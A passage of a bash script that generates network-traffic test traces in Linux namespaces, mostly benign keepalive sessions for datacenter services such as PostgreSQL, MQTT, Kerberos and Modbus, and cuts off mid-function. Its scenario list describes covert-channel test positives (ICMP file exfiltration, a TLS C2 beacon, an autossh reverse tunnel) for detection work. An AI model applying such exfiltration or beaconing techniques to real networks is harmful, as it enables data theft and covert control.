# SPDX-License-Identifier: BSD-3-Clause
# make-traces-apps.sh: scenarios of make-traces.sh (which sources this
# file) for the services datacenters keep open: brokers, databases,
# directory, monitoring, voice and time protocols, each from its real
# Debian implementation, held open with its natural keepalive; and the
# covert-channel positives of issue 11 (ICMP text exfiltration, a TLS
# beacon to a rare destination, an idle autossh tunnel with a check-in).
#
# Subnets 10.20.150-199.0/24.  The benign ones must leave every host clean;
# the long ones (APP_LONG_SECONDS, default 660 s) outlast the default
# long-lived threshold (600 s), the short ones are checked with
# tests/traces/short_thresholds.cfg.

# name k summary
SCENARIOS+=(
	"benign_postgres_longlived 150 psql keeps one PostgreSQL session open >600 s, SELECT every 30 s"
	"benign_mqtt_longlived 151 mosquitto_sub held >600 s with MQTT keepalive 30 s; mosquitto_pub every ~30 s"
	"benign_nats_longlived 152 a NATS client held >600 s: PUB every 20 s, the server's PING every 2 min"
	"benign_redis_keepalive 153 redis-cli -r -i: one connection, PING every 10 s"
	"benign_mariadb_session 154 mariadb client session, SELECT every 10 s"
	"benign_rabbitmq_heartbeat 155 pika client, AMQP 0-9-1 heartbeat 10 s, publish every 10 s; a STOMP client with heart-beats"
	"benign_zookeeper_session 156 kazoo session (timeout 10 s, pings) to a ZooKeeper server, a read every 10 s"
	"benign_etcd_watch 157 etcdctl watch held open (gRPC/HTTP2 keepalive 2 s), etcdctl put every 10 s"
	"benign_chrony_ntp 158 chronyd client polls a chronyd server every 8 s (NTP)"
	"benign_snmp_poll 159 snmpget of sysUpTime every 10 s to snmpd, one snmpwalk"
	"benign_ldap_search 160 ldapsearch against slapd every 10 s (simple bind, one-level search)"
	"benign_kerberos_kinit 161 kinit against krb5kdc every 15 s (UDP, preauth)"
	"benign_stun_binding 162 turnutils_stunclient binding request every 10 s to coturn"
	"benign_sip_options 163 sipsak OPTIONS keepalive every 10 s (UDP, fixed port) to kamailio, one REGISTER over TCP"
	"benign_syslog_tcp 164 rsyslog forwards over one TCP connection to a remote rsyslog, a line every 10 s"
	"benign_collectd_udp 166 collectd sends load values every 10 s over UDP to a collectd server"
	"benign_modbus_poll 167 pymodbus client polls holding registers every 5 s on one TCP connection"
	"benign_bittorrent_local 168 transmission-cli fetches a 512 kB torrent from a transmission-cli seeder via a local HTTP tracker, then both seed"
	"icmptun_exfil_text 170 a raw-socket sender carries a 3 kB text file in 3 ICMP echo requests of ~1 kB"
	"icmptun_exfil_b64 171 the same file base64-encoded in 4 echo requests, each 'name::id::n' then a chunk"
	"tls_beacon_rare 172 curl --tlsv1.3 every 15 s +-1 s, ~3.5 min, to an HTTPS server no other host talks to"
	"tls_beacon_inflow 173 one keep-alive TLS 1.3 connection, a GET every 15 s +-1 s for ~3.5 min (C2 agent)"
	"ssh_autossh_checkin 174 autossh -M 0 -R with ServerAliveInterval=15 idle 120 s, one operator check-in typing two commands"
)

# Commands the scenarios need -> Debian package (merged by ensure_packages).
declare -A APP_NEED=(
	[initdb]=postgresql [psql]=postgresql-client
	[mosquitto]=mosquitto [mosquitto_sub]=mosquitto-clients
	[nats-server]=nats-server
	[redis-server]=redis-server [redis-cli]=redis-tools
	[mariadbd]=mariadb-server [mariadb]=mariadb-client
	[rabbitmq-server]=rabbitmq-server
	[/usr/share/zookeeper/bin/zkServer.sh]=zookeeperd [etcd]=etcd-server [etcdctl]=etcd-client
	[chronyd]=chrony [snmpd]=snmpd [snmpget]=snmp
	[slapd]=slapd [ldapsearch]=ldap-utils
	[krb5kdc]=krb5-kdc [kadmin.local]=krb5-admin-server [kinit]=krb5-user
	[turnserver]=coturn [kamailio]=kamailio [sipsak]=sipsak
	[rsyslogd]=rsyslog [collectd]=collectd-core
	[transmission-cli]=transmission-cli
)
# Python modules the clients import -> Debian package.
declare -A APP_PY_NEED=(
	[pika]=python3-pika [kazoo]=python3-kazoo [pymodbus]=python3-pymodbus
	[serial_asyncio]=python3-serial-asyncio
)

# PostgreSQL's binaries are not on PATH.
pg_bin()
{
	local d

	for d in /usr/lib/postgresql/*/bin; do
		[ -x "$d/$1" ] && { echo "$d/$1"; return 0; }
	done
	command -v "$1"
}

# Seconds a short scenario runs: past the 60 s long-lived threshold of
# tests/traces/short_thresholds.cfg, with 8+ keepalives.
app_short_seconds()
{
	echo "${APP_SHORT_SECONDS:-100}"
}

# Waits until TCP PORT listens on 10.20.k.1 (outside), up to SECONDS.
app_wait_listen()
{
	local port=$1 seconds=${2:-20} i

	for ((i = 0; i < seconds * 5; i++)); do
		ip netns exec "$out" ss -ltn | grep -q "10.20.$k.1:$port\b" &&
			return 0
		sleep 0.2
	done
	die "$name: nothing listens on 10.20.$k.1:$port"
}

# Seconds a long scenario holds its connection: past the 600 s default.
app_long_seconds()
{
	echo "${APP_LONG_SECONDS:-660}"
}

# Runs COMMAND... in the inside namespace every PERIOD_MS +-JITTER_MS
# (fixed seed SEED), COUNT times, in the foreground.
app_every()
{
	local count=$1 period=$2 jitter=$3 seed=$4 i
	shift 4

	RANDOM=$seed
	for ((i = 1; i <= count; i++)); do
		ip netns exec "$in" "$@" >/dev/null 2>&1 ||
			log "$name: round $i of '$1' failed"
		sleep_ms_between $((period - jitter)) $((period + jitter))
	done
}

# Prints a line every PERIOD seconds, COUNT times: a client's stdin.
app_lines()
{
	local count=$1 period=$2 line=$3 i

	for ((i = 1; i <= count; i++)); do
		printf '%s\n' "$line"
		sleep "$period"
	done
}

# Checks that a TCP connection to PORT is still established in the inside
# namespace (the long scenarios must stop the capture while it is open).
app_still_open()
{
	ip netns exec "$in" ss -tn state established | grep -q ":$1\b" ||
		die "$name: connection to :$1 is not established any more"
}

# ------------------------------------------------------------ PostgreSQL

scenario_benign_postgres_longlived()
{
	local seconds
	seconds=$(app_long_seconds)
	record "$1" "$2" "$SNAP_HEADERS" postgres_servers postgres_traffic
}

postgres_servers()
{
	local data="$WORK_DIR/$name.pg"

	# the postgres user must reach its data directory under WORK_DIR
	chmod 711 "$WORK_DIR"
	install -d -o postgres -g postgres -m 700 "$data"
	runuser -u postgres -- "$(pg_bin initdb)" -D "$data" -A trust \
		-U postgres >"$WORK_DIR/$name.initdb.log" 2>&1 ||
		die "$name: initdb failed"
	echo "host all all 10.20.$k.0/24 trust" >>"$data/pg_hba.conf"
	ip netns exec "$out" runuser -u postgres -- "$(pg_bin postgres)" \
		-D "$data" -h "10.20.$k.1" -k "$data" \
		>"$WORK_DIR/$name.postgres.log" 2>&1 &
	for i in $(seq 1 100); do
		ip netns exec "$out" "$(pg_bin pg_isready)" -q -h "10.20.$k.1" &&
			return 0
		sleep 0.2
	done
	die "$name: postgres did not start"
}

postgres_traffic()
{
	local rounds=$((seconds / 30 + 2))

	log "$name: psql 10.20.$k.2 -> 10.20.$k.1:5432, SELECT every 30 s, ${seconds}s"
	app_lines "$rounds" 30 "SELECT now(), count(*) FROM pg_stat_activity;" |
		ip netns exec "$in" psql -h "10.20.$k.1" -U postgres -d postgres \
			-X -q >/dev/null 2>&1 &
	sleep "$seconds"
	app_still_open 5432
}

# ----------------------------------------------------------------- MQTT

scenario_benign_mqtt_longlived()
{
	local seconds
	seconds=$(app_long_seconds)
	record "$1" "$2" "$SNAP_HEADERS" mqtt_servers mqtt_traffic
}

mqtt_servers()
{
	cat >"$WORK_DIR/$name.mosquitto.conf" <<-EOF
	listener 1883 10.20.$k.1
	allow_anonymous true
	persistence false
	log_dest stderr
	EOF
	ip netns exec "$out" mosquitto -c "$WORK_DIR/$name.mosquitto.conf" \
		>"$WORK_DIR/$name.mosquitto.log" 2>&1 &
	sleep 1
}

mqtt_traffic()
{
	log "$name: mosquitto_sub -k 30 held ${seconds}s, mosquitto_pub every ~30 s"
	ip netns exec "$in" mosquitto_sub -h "10.20.$k.1" -i tw-dashboard \
		-k 30 -t 'plant/+/temperature' >/dev/null 2>&1 &
	sleep 2
	# a sensor publishing its reading, a new connection each time
	app_every $((seconds / 30)) 30000 3000 1511 \
		mosquitto_pub -h "10.20.$k.1" -i tw-sensor-7 -q 1 \
		-t plant/line7/temperature -m '21.4'
	app_still_open 1883
}

# ----------------------------------------------------------------- NATS

scenario_benign_nats_longlived()
{
	local seconds
	seconds=$(app_long_seconds)
	record "$1" "$2" "$SNAP_HEADERS" nats_servers nats_traffic
}

nats_servers()
{
	ip netns exec "$out" nats-server -a "10.20.$k.1" -p 4222 \
		>"$WORK_DIR/$name.nats.log" 2>&1 &
	sleep 1
}

# A minimal NATS client as the client libraries behave: CONNECT, SUB, a
# PUB every 20 s, PONG to the server's PING (every 2 min by default).
nats_client_py()
{
	cat <<-'EOF'
	import socket, sys, time, select
	host, seconds = sys.argv[1], float(sys.argv[2])
	s = socket.create_connection((host, 4222))
	s.recv(4096)  # INFO
	s.sendall(b'CONNECT {"verbose":false,"pedantic":false,"tls_required":false,'
	          b'"name":"tw-metrics","lang":"python3","version":"2.6.0",'
	          b'"protocol":1,"echo":true,"headers":true,"no_responders":true}\r\n'
	          b'PING\r\n')
	s.sendall(b'SUB metrics.> 1\r\n')
	end = time.time() + seconds
	next_pub = time.time() + 20
	n = 0
	while time.time() < end:
	    r, _, _ = select.select([s], [], [], 1.0)
	    if r:
	        data = s.recv(4096)
	        if not data:
	            break
	        if b'PING\r\n' in data:
	            s.sendall(b'PONG\r\n')
	    if time.time() >= next_pub:
	        n += 1
	        msg = b'{"host":"db7","load":0.%d}' % (n % 10)
	        s.sendall(b'PUB metrics.db7 %d\r\n%s\r\n' % (len(msg), msg))
	        next_pub += 20
	time.sleep(3600)
	EOF
}

nats_traffic()
{
	nats_client_py >"$WORK_DIR/$name.client.py"
	log "$name: NATS client 10.20.$k.2 -> 10.20.$k.1:4222, ${seconds}s"
	ip netns exec "$in" "$(python_bin)" "$WORK_DIR/$name.client.py" \
		"10.20.$k.1" "$seconds" >/dev/null 2>&1 &
	sleep "$seconds"
	app_still_open 4222
}

# ---------------------------------------------------------------- Redis

scenario_benign_redis_keepalive()
{
	local seconds
	seconds=$(app_short_seconds)
	record "$1" "$2" "$SNAP_HEADERS" redis_servers redis_traffic
}

redis_servers()
{
	ip netns exec "$out" redis-server --bind "10.20.$k.1" --port 6379 \
		--save '' --appendonly no --protected-mode no \
		--dir "$WORK_DIR" >"$WORK_DIR/$name.redis.log" 2>&1 &
	app_wait_listen 6379
}

redis_traffic()
{
	log "$name: redis-cli -r $((seconds / 10)) -i 10 PING, one connection"
	ip netns exec "$in" redis-cli -h "10.20.$k.1" -r $((seconds / 10 + 1)) \
		-i 10 PING >/dev/null 2>&1 &
	sleep "$seconds"
	app_still_open 6379
}

# -------------------------------------------------------------- MariaDB

scenario_benign_mariadb_session()
{
	local seconds
	seconds=$(app_short_seconds)
	record "$1" "$2" "$SNAP_HEADERS" mariadb_servers mariadb_traffic
}

mariadb_servers()
{
	local data="$WORK_DIR/$name.db"

	chmod 711 "$WORK_DIR"
	install -d -o mysql -g mysql -m 700 "$data"
	mariadb-install-db --user=mysql --datadir="$data" \
		--auth-root-authentication-method=normal \
		>"$WORK_DIR/$name.install.log" 2>&1 || die "$name: install-db failed"
	ip netns exec "$out" mariadbd --no-defaults --user=mysql \
		--datadir="$data" --socket="$data/sock" --pid-file="$data/pid" \
		--bind-address="10.20.$k.1" --port=3306 --skip-grant-tables \
		--skip-name-resolve >"$WORK_DIR/$name.mariadb.log" 2>&1 &
	app_wait_listen 3306 60
}

mariadb_traffic()
{
	log "$name: mariadb client 10.20.$k.2 -> 10.20.$k.1:3306, SELECT every 10 s"
	app_lines $((seconds / 10 + 2)) 10 "SELECT NOW(), CONNECTION_ID();" |
		ip netns exec "$in" mariadb --no-defaults -h "10.20.$k.1" \
			-u monitor >/dev/null 2>&1 &
	sleep "$seconds"
	app_still_open 3306
}

# ------------------------------------------------------------- RabbitMQ

scenario_benign_rabbitmq_heartbeat()
{
	local seconds
	seconds=$(app_short_seconds)
	record "$1" "$2" "$SNAP_HEADERS" rabbitmq_servers rabbitmq_traffic
}

rabbitmq_servers()
{
	local base="$WORK_DIR/$name.rabbit"

	chmod 711 "$WORK_DIR"
	install -d -o rabbitmq -g rabbitmq -m 755 "$base" "$base/mnesia" \
		"$base/log"
	echo "[rabbitmq_stomp]." >"$base/enabled_plugins"
	cat >"$base/rabbitmq.conf" <<-EOF
	loopback_users = none
	listeners.tcp.default = 10.20.$k.1:5672
	stomp.listeners.tcp.1 = 10.20.$k.1:61613
	stomp.default_user = guest
	stomp.default_pass = guest
	EOF
	chown rabbitmq:rabbitmq "$base/enabled_plugins" "$base/rabbitmq.conf"
	# epmd and the node's distribution port stay on the namespace's lo
	ip netns exec "$out" env HOME="$base" RABBITMQ_NODENAME=rabbit@localhost \
		RABBITMQ_MNESIA_BASE="$base/mnesia" RABBITMQ_LOG_BASE="$base/log" \
		RABBITMQ_CONFIG_FILE="$base/rabbitmq.conf" \
		RABBITMQ_ENABLED_PLUGINS_FILE="$base/enabled_plugins" \
		RABBITMQ_PID_FILE="$base/pid" ERL_EPMD_ADDRESS=127.0.0.1 \
		rabbitmq-server >"$WORK_DIR/$name.rabbit.log" 2>&1 &
	app_wait_listen 5672 90
	app_wait_listen 61613 30
}

# pika's BlockingConnection with a 10 s heartbeat, publishing a reading
# every 10 s (pika answers and sends heartbeats while it waits).
rabbitmq_client_py()
{
	cat <<-'EOF'
	import sys, time, pika
	host, seconds = sys.argv[1], float(sys.argv[2])
	params = pika.ConnectionParameters(host=host, heartbeat=10,
	    credentials=pika.PlainCredentials("guest", "guest"))
	conn = pika.BlockingConnection(params)
	ch = conn.channel()
	ch.queue_declare(queue="metrics")
	end = time.time() + seconds
	n = 0
	while time.time() < end:
	    n += 1
	    ch.basic_publish(exchange="", routing_key="metrics",
	                     body=b'{"host":"web3","rps":%d}' % (40 + n % 7))
	    conn.sleep(10)
	conn.sleep(3600)
	EOF
}

# A STOMP 1.2 client as stomp.py behaves: CONNECT with heart-beat 10 s
# both ways, SUBSCRIBE, then a heart-beat newline every 10 s.
stomp_client_py()
{
	cat <<-'EOF'
	import socket, sys, time
	host, seconds = sys.argv[1], float(sys.argv[2])
	s = socket.create_connection((host, 61613))
	s.sendall(b"CONNECT\naccept-version:1.2\nhost:/\nlogin:guest\n"
	          b"passcode:guest\nheart-beat:10000,10000\n\n\x00")
	s.recv(4096)
	s.sendall(b"SUBSCRIBE\nid:0\ndestination:/queue/alerts\nack:auto\n\n\x00")
	s.settimeout(10)
	end = time.time() + seconds
	while time.time() < end:
	    try:
	        s.recv(4096)
	    except socket.timeout:
	        pass
	    s.sendall(b"\n")
	time.sleep(3600)
	EOF
}

rabbitmq_traffic()
{
	rabbitmq_client_py >"$WORK_DIR/$name.amqp.py"
	stomp_client_py >"$WORK_DIR/$name.stomp.py"
	log "$name: AMQP (heartbeat 10 s) and STOMP (heart-beat 10 s), ${seconds}s"
	ip netns exec "$in" "$(python_bin)" "$WORK_DIR/$name.amqp.py" \
		"10.20.$k.1" "$seconds" >"$WORK_DIR/$name.amqp.log" 2>&1 &
	ip netns exec "$in" "$(python_bin)" "$WORK_DIR/$name.stomp.py" \
		"10.20.$k.1" "$seconds" >"$WORK_DIR/$name.stomp.log" 2>&1 &
	sleep "$seconds"
	app_still_open 5672
	app_still_open 61613
}

# ------------------------------------------------------------ ZooKeeper

scenario_benign_zookeeper_session()
{
	local seconds
	seconds=$(app_short_seconds)
	record "$1" "$2" "$SNAP_HEADERS" zookeeper_servers zookeeper_traffic
}

zookeeper_servers()
{
	local base="$WORK_DIR/$name.zk"

	mkdir -p "$base/data"
	cat >"$base/zoo.cfg" <<-EOF
	tickTime=2000
	dataDir=$base/data
	clientPort=2181
	clientPortAddress=10.20.$k.1
	admin.enableServer=false
	4lw.commands.whitelist=ruok
	EOF
	ip netns exec "$out" env ZOO_LOG_DIR="$base" ZOOCFGDIR="$base" \
		/usr/share/zookeeper/bin/zkServer.sh start-foreground \
		"$base/zoo.cfg" >"$WORK_DIR/$name.zk.log" 2>&1 &
	app_wait_listen 2181 60
}

zookeeper_client_py()
{
	cat <<-'EOF'
	import sys, time
	from kazoo.client import KazooClient
	host, seconds = sys.argv[1], float(sys.argv[2])
	zk = KazooClient(hosts=host + ":2181", timeout=10.0)
	zk.start()
	zk.ensure_path("/services/web")
	end = time.time() + seconds
	while time.time() < end:
	    zk.get_children("/services")
	    time.sleep(10)
	time.sleep(3600)
	EOF
}

zookeeper_traffic()
{
	zookeeper_client_py >"$WORK_DIR/$name.client.py"
	log "$name: kazoo session (timeout 10 s) to 10.20.$k.1:2181, ${seconds}s"
	ip netns exec "$in" "$(python_bin)" "$WORK_DIR/$name.client.py" \
		"10.20.$k.1" "$seconds" >"$WORK_DIR/$name.client.log" 2>&1 &
	sleep "$seconds"
	app_still_open 2181
}

# ----------------------------------------------------------------- etcd

scenario_benign_etcd_watch()
{
	local seconds
	seconds=$(app_short_seconds)
	record "$1" "$2" "$SNAP_HEADERS" etcd_servers etcd_traffic
}

etcd_servers()
{
	ip netns exec "$out" etcd --name tw --data-dir "$WORK_DIR/$name.etcd" \
		--listen-client-urls "http://10.20.$k.1:2379" \
		--advertise-client-urls "http://10.20.$k.1:2379" \
		--listen-peer-urls http://127.0.0.1:2380 \
		--initial-advertise-peer-urls http://127.0.0.1:2380 \
		--initial-cluster tw=http://127.0.0.1:2380 \
		>"$WORK_DIR/$name.etcd.log" 2>&1 &
	app_wait_listen 2379 30
	sleep 1
}

etcd_traffic()
{
	local ep="http://10.20.$k.1:2379"

	log "$name: etcdctl watch held open, etcdctl put every 10 s, ${seconds}s"
	ip netns exec "$in" env ETCDCTL_API=3 etcdctl --endpoints="$ep" \
		watch --prefix /config/ >/dev/null 2>&1 &
	sleep 1
	app_every $((seconds / 10)) 10000 1000 1571 env ETCDCTL_API=3 \
		etcdctl --endpoints="$ep" put /config/web/replicas 3
	app_still_open 2379
}

# --------------------------------------------------------------- chrony

scenario_benign_chrony_ntp()
{
	local seconds
	seconds=$(app_short_seconds)
	record "$1" "$2" "$SNAP_HEADERS" chrony_servers chrony_traffic
}

chrony_servers()
{
	cat >"$WORK_DIR/$name.server.conf" <<-EOF
	local stratum 8
	allow 10.20.$k.0/24
	bindaddress 10.20.$k.1
	cmdport 0
	pidfile $WORK_DIR/$name.server.pid
	driftfile $WORK_DIR/$name.server.drift
	EOF
	ip netns exec "$out" chronyd -x -d -f "$WORK_DIR/$name.server.conf" \
		>"$WORK_DIR/$name.server.log" 2>&1 &
	sleep 1
}

chrony_traffic()
{
	cat >"$WORK_DIR/$name.client.conf" <<-EOF
	server 10.20.$k.1 iburst minpoll 3 maxpoll 3
	cmdport 0
	port 0
	pidfile $WORK_DIR/$name.client.pid
	driftfile $WORK_DIR/$name.client.drift
	EOF
	log "$name: chronyd client polls 10.20.$k.1:123 every 8 s, ${seconds}s"
	ip netns exec "$in" chronyd -x -d -f "$WORK_DIR/$name.client.conf" \
		>"$WORK_DIR/$name.client.log" 2>&1 &
	sleep "$seconds"
}

# ----------------------------------------------------------------- SNMP

scenario_benign_snmp_poll()
{
	local seconds
	seconds=$(app_short_seconds)
	record "$1" "$2" "$SNAP_HEADERS" snmp_servers snmp_traffic
}

snmp_servers()
{
	cat >"$WORK_DIR/$name.snmpd.conf" <<-EOF
	rocommunity public 10.20.$k.0/24
	sysLocation rack 7
	sysContact ops@example.org
	EOF
	ip netns exec "$out" snmpd -f -Lo -C -c "$WORK_DIR/$name.snmpd.conf" \
		-p "$WORK_DIR/$name.snmpd.pid" "udp:10.20.$k.1:161" \
		>"$WORK_DIR/$name.snmpd.log" 2>&1 &
	sleep 1.5
}

snmp_traffic()
{
	log "$name: snmpget sysUpTime every 10 s, one snmpwalk of system, ${seconds}s"
	ip netns exec "$in" snmpwalk -m "" -v2c -c public "10.20.$k.1" .1.3.6.1.2.1.1 \
		>/dev/null 2>&1 || log "$name: snmpwalk failed"
	app_every $((seconds / 10)) 10000 500 1591 snmpget -m "" -v2c -c public \
		"10.20.$k.1" .1.3.6.1.2.1.1.3.0 .1.3.6.1.2.1.2.2.1.10.1
}

# ----------------------------------------------------------------- LDAP

scenario_benign_ldap_search()
{
	local seconds
	seconds=$(app_short_seconds)
	record "$1" "$2" "$SNAP_HEADERS" ldap_servers ldap_traffic
}

ldap_servers()
{
	local base="$WORK_DIR/$name.ldap"

	mkdir -p "$base/db"
	cat >"$base/slapd.conf" <<-EOF
	include /etc/ldap/schema/core.schema
	include /etc/ldap/schema/cosine.schema
	include /etc/ldap/schema/inetorgperson.schema
	pidfile $base/slapd.pid
	modulepath /usr/lib/ldap
	moduleload back_mdb
	database mdb
	suffix "dc=example,dc=org"
	rootdn "cn=admin,dc=example,dc=org"
	rootpw secret
	directory $base/db
	EOF
	cat >"$base/base.ldif" <<-EOF
	dn: dc=example,dc=org
	objectClass: dcObject
	objectClass: organization
	o: Example
	dc: example

	dn: ou=people,dc=example,dc=org
	objectClass: organizationalUnit
	ou: people

	dn: uid=alice,ou=people,dc=example,dc=org
	objectClass: inetOrgPerson
	uid: alice
	cn: Alice
	sn: Liddell
	mail: alice@example.org
	EOF
	slapadd -f "$base/slapd.conf" -l "$base/base.ldif" \
		>"$WORK_DIR/$name.slapadd.log" 2>&1 || die "$name: slapadd failed"
	ip netns exec "$out" slapd -d 0 -f "$base/slapd.conf" \
		-h "ldap://10.20.$k.1/" >"$WORK_DIR/$name.slapd.log" 2>&1 &
	app_wait_listen 389 20
}

ldap_traffic()
{
	log "$name: ldapsearch (simple bind) every 10 s, ${seconds}s"
	app_every $((seconds / 10)) 10000 800 1601 ldapsearch -x \
		-H "ldap://10.20.$k.1/" -D "cn=admin,dc=example,dc=org" \
		-w secret -b "ou=people,dc=example,dc=org" "(uid=alice)" mail
}

# ------------------------------------------------------------- Kerberos

scenario_benign_kerberos_kinit()
{
	local seconds
	seconds=$(app_short_seconds)
	record "$1" "$2" "$SNAP_HEADERS" kerberos_servers kerberos_traffic
}

kerberos_servers()
{
	local base="$WORK_DIR/$name.krb"

	mkdir -p "$base"
	cat >"$base/krb5.conf" <<-EOF
	[libdefaults]
	    default_realm = EXAMPLE.ORG
	    dns_lookup_kdc = false
	    udp_preference_limit = 1465
	[realms]
	    EXAMPLE.ORG = {
	        kdc = 10.20.$k.1
	    }
	EOF
	cat >"$base/kdc.conf" <<-EOF
	[kdcdefaults]
	    kdc_ports = 88
	    kdc_tcp_ports = 88
	[realms]
	    EXAMPLE.ORG = {
	        database_name = $base/principal
	        key_stash_file = $base/stash
	        acl_file = $base/kadm5.acl
	    }
	[logging]
	    kdc = FILE:$base/kdc.log
	EOF
	export KRB5_CONFIG="$base/krb5.conf" KRB5_KDC_PROFILE="$base/kdc.conf"
	kdb5_util create -s -r EXAMPLE.ORG -P masterpw \
		>"$WORK_DIR/$name.kdb.log" 2>&1 || die "$name: kdb5_util failed"
	kadmin.local -r EXAMPLE.ORG -q "addprinc -pw alicepw +requires_preauth alice" \
		>>"$WORK_DIR/$name.kdb.log" 2>&1 || die "$name: addprinc failed"
	ip netns exec "$out" krb5kdc -n -r EXAMPLE.ORG \
		>"$WORK_DIR/$name.kdc.log" 2>&1 &
	sleep 1.5
}

kerberos_traffic()
{
	local i

	log "$name: kinit alice every 15 s (UDP), ${seconds}s"
	RANDOM=1611
	for ((i = 1; i <= seconds / 15; i++)); do
		echo alicepw | ip netns exec "$in" env \
			KRB5CCNAME="FILE:$WORK_DIR/$name.cc" kinit alice \
			>/dev/null 2>&1 || log "$name: kinit $i failed"
		sleep_ms_between 14000 16000
	done
}

# ------------------------------------------------------------ STUN/TURN

scenario_benign_stun_binding()
{
	local seconds
	seconds=$(app_short_seconds)
	record "$1" "$2" "$SNAP_HEADERS" stun_servers stun_traffic
}

stun_servers()
{
	ip netns exec "$out" turnserver -n -L "10.20.$k.1" --listening-port 3478 \
		--no-tls --no-dtls --no-cli --no-auth --log-file stdout \
		--pidfile "$WORK_DIR/$name.turn.pid" --simple-log \
		>"$WORK_DIR/$name.turn.log" 2>&1 &
	sleep 1.5
}

stun_traffic()
{
	log "$name: turnutils_stunclient every 10 s, ${seconds}s"
	app_every $((seconds / 10)) 10000 500 1621 turnutils_stunclient \
		-p 3478 "10.20.$k.1"
}

# ------------------------------------------------------------------ SIP

scenario_benign_sip_options()
{
	local seconds
	seconds=$(app_short_seconds)
	record "$1" "$2" "$SNAP_HEADERS" sip_servers sip_traffic
}

sip_servers()
{
	cat >"$WORK_DIR/$name.kamailio.cfg" <<-EOF
	#!KAMAILIO
	listen=udp:10.20.$k.1:5060
	listen=tcp:10.20.$k.1:5060
	children=1
	tcp_children=1
	log_stderror=yes
	mpath="/usr/lib/x86_64-linux-gnu/kamailio/modules/"
	loadmodule "sl.so"
	loadmodule "pv.so"
	loadmodule "textops.so"
	request_route {
	    if (is_method("OPTIONS|REGISTER")) {
	        sl_send_reply("200", "OK");
	        exit;
	    }
	    sl_send_reply("404", "Not here");
	}
	EOF
	ip netns exec "$out" kamailio -f "$WORK_DIR/$name.kamailio.cfg" -DD -E \
		-Y "$WORK_DIR" -P "$WORK_DIR/$name.kamailio.pid" \
		>"$WORK_DIR/$name.kamailio.log" 2>&1 &
	sleep 2
}

sip_traffic()
{
	log "$name: sipsak OPTIONS every 10 s from UDP 5062, one REGISTER over TCP"
	ip netns exec "$in" sipsak -E tcp -U -C "sip:alice@10.20.$k.2:5062" \
		-x 3600 -a secret -s "sip:alice@10.20.$k.1" >/dev/null 2>&1 ||
		log "$name: REGISTER over TCP failed"
	app_every $((seconds / 10)) 10000 300 1631 sipsak -l 5062 \
		-s "sip:ping@10.20.$k.1"
}

# --------------------------------------------------------------- syslog

scenario_benign_syslog_tcp()
{
	local seconds
	seconds=$(app_short_seconds)
	record "$1" "$2" "$SNAP_HEADERS" syslog_servers syslog_traffic
}

syslog_servers()
{
	mkdir -p "$WORK_DIR/$name.out" "$WORK_DIR/$name.in"
	cat >"$WORK_DIR/$name.server.conf" <<-EOF
	global(workDirectory="$WORK_DIR/$name.out")
	module(load="imtcp")
	input(type="imtcp" port="514" address="10.20.$k.1")
	*.* action(type="omfile" file="$WORK_DIR/$name.out/remote.log")
	EOF
	ip netns exec "$out" rsyslogd -n -f "$WORK_DIR/$name.server.conf" \
		-i "$WORK_DIR/$name.server.pid" >"$WORK_DIR/$name.server.log" 2>&1 &
	app_wait_listen 514 20
}

syslog_traffic()
{
	local i sock="$WORK_DIR/$name.in/log.sock"

	cat >"$WORK_DIR/$name.client.conf" <<-EOF
	global(workDirectory="$WORK_DIR/$name.in")
	module(load="imuxsock" SysSock.Use="off")
	input(type="imuxsock" Socket="$sock" CreatePath="on")
	*.* action(type="omfwd" target="10.20.$k.1" port="514" protocol="tcp")
	EOF
	ip netns exec "$in" rsyslogd -n -f "$WORK_DIR/$name.client.conf" \
		-i "$WORK_DIR/$name.client.pid" >"$WORK_DIR/$name.client.log" 2>&1 &
	sleep 1
	log "$name: rsyslog forwards a line every 10 s over TCP, ${seconds}s"
	RANDOM=1641
	for ((i = 1; i <= seconds / 10; i++)); do
		logger -u "$sock" -t backup-agent "job $i: 0 errors, next run in 10s"
		sleep_ms_between 9500 10500
	done
	app_still_open 514
}

# ------------------------------------------------------------- collectd

scenario_benign_collectd_udp()
{
	local seconds
	seconds=$(app_short_seconds)
	record "$1" "$2" "$SNAP_HEADERS" collectd_servers collectd_traffic
}

collectd_conf()
{
	local role=$1

	cat <<-EOF
	Hostname "$role.example.org"
	FQDNLookup false
	Interval 10
	BaseDir "$WORK_DIR/$name.$role"
	PIDFile "$WORK_DIR/$name.$role.pid"
	PluginDir "/usr/lib/collectd"
	TypesDB "/usr/share/collectd/types.db"
	LoadPlugin network
	EOF
	if [ "$role" = server ]; then
		printf '<Plugin network>\n  Listen "10.20.%s.1" "25826"\n</Plugin>\n' "$k"
	else
		# enough values per interval to fill a packet: the network
		# plugin sends when its buffer is full, not per interval
		printf 'LoadPlugin %s\n' load uptime memory cpu interface
		printf '<Plugin network>\n  Server "10.20.%s.1" "25826"\n</Plugin>\n' "$k"
	fi
}

collectd_servers()
{
	mkdir -p "$WORK_DIR/$name.server" "$WORK_DIR/$name.client"
	collectd_conf server >"$WORK_DIR/$name.server.conf"
	ip netns exec "$out" collectd -f -C "$WORK_DIR/$name.server.conf" \
		>"$WORK_DIR/$name.server.log" 2>&1 &
	sleep 1
}

collectd_traffic()
{
	collectd_conf client >"$WORK_DIR/$name.client.conf"
	log "$name: collectd sends every 10 s to 10.20.$k.1:25826, ${seconds}s"
	ip netns exec "$in" collectd -f -C "$WORK_DIR/$name.client.conf" \
		>"$WORK_DIR/$name.client.log" 2>&1 &
	sleep "$seconds"
}

# --------------------------------------------------------------- Modbus

scenario_benign_modbus_poll()
{
	local seconds
	seconds=$(app_short_seconds)
	record "$1" "$2" "$SNAP_HEADERS" modbus_servers modbus_traffic
}

modbus_server_py()
{
	cat <<-'EOF'
	import sys
	from pymodbus.server import StartTcpServer
	from pymodbus.datastore import (ModbusSequentialDataBlock,
	    ModbusSlaveContext, ModbusServerContext)
	block = ModbusSequentialDataBlock(0, [17] * 100)
	store = ModbusSlaveContext(di=block, co=block, hr=block, ir=block)
	StartTcpServer(context=ModbusServerContext(slaves=store, single=True),
	               address=(sys.argv[1], 502))
	EOF
}

modbus_client_py()
{
	cat <<-'EOF'
	import sys, time
	from pymodbus.client import ModbusTcpClient
	host, seconds = sys.argv[1], float(sys.argv[2])
	c = ModbusTcpClient(host, port=502)
	c.connect()
	end = time.time() + seconds
	while time.time() < end:
	    c.read_holding_registers(0, 10, slave=1)
	    c.read_input_registers(10, 4, slave=1)
	    time.sleep(5)
	time.sleep(3600)
	EOF
}

modbus_servers()
{
	modbus_server_py >"$WORK_DIR/$name.server.py"
	ip netns exec "$out" "$(python_bin)" "$WORK_DIR/$name.server.py" \
